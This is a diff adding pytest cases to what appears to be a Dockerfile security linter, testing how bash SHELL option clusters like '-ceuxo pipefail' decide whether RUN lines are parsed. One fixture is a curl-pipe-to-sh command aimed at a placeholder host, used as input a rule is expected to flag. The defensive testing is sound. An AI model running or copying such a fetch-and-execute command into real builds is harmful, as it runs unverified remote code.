@@ -565,6 +565,40 @@ def test_combined_flags_ending_in_c_are_a_posix_shells_c(tmp_path: Path, shell: 
     assert not any(rule == "MLS909" for rule, _, _ in found)
 
 
+# bash and sh read option clusters: an `o` takes the next word as an option's name, in order, and a
+# `c` anywhere makes the RUN line the command string (`bash -ceuxo pipefail 'cmd'` runs cmd).
+@pytest.mark.parametrize(
+    "shell",
+    [
+        '["/bin/bash", "-ceuxo", "pipefail"]',
+        '["/bin/bash", "-oc", "pipefail"]',
+        '["/bin/bash", "-c", "-e", "-o", "pipefail"]',
+        '["/bin/bash", "-eo", "pipefail", "-O", "extglob", "-c"]',
+        '["/bin/bash", "-ooc", "pipefail", "nounset"]',
+    ],
+)
+def test_a_c_anywhere_among_the_shells_options_is_its_c(tmp_path: Path, shell: str) -> None:
+    found = graded(tmp_path, f"FROM {PIN}\nSHELL {shell}\nRUN curl https://x.example/s | sh\n{SAFE_END}")
+    assert not any(rule == "MLS909" for rule, _, _ in found)
+    assert any(rule == "MLS503" and line == 3 for rule, line, _ in found)  # the RUN line is read
+
+
+@pytest.mark.parametrize(
+    "shell",
+    [
+        '["/bin/bash", "-ceuxo"]',  # the o's name would be the RUN line itself
+        '["/bin/bash", "-o", "-c"]',  # `-c` is taken as the option's name
+        '["/bin/bash", "-euxo", "pipefail"]',  # no `-c`: the RUN line is a script's path
+        '["/bin/bash", "+c"]',
+        '["/bin/bash", "pipefail", "-c"]',  # a script named pipefail runs
+        '["/bin/bash", "-oo", "pipefail", "-c"]',  # the second o takes `-c`
+    ],
+)
+def test_shell_options_that_do_not_end_in_a_command_string_are_not_read(tmp_path: Path, shell: str) -> None:
+    found = graded(tmp_path, f"FROM {PIN}\nSHELL {shell}\nRUN echo hi\n{SAFE_END}")
+    assert ("MLS909", 2, "medium") in found
+
+
 @pytest.mark.parametrize(
     "run",
     [
